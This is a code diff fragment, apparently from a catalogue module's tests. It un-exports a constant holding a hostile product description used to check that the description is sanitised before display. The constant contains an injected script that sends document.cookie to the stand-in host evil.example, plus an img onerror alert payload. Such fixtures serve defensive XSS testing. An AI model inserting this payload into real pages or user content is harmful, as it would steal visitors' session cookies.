@@ -23,7 +23,7 @@ export interface CatalogueEntry {
 }
 
 /** The one description that must never reach the screen unsanitised. */
-export const HOSTILE_DESCRIPTION =
+const HOSTILE_DESCRIPTION =
   '<p>Sixty seamless <b>retro pixel</b> patterns for games and posters.</p>' +
   '<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + document.cookie)</script>' +
   '<img src=x onerror="alert(\'xss\')">' +
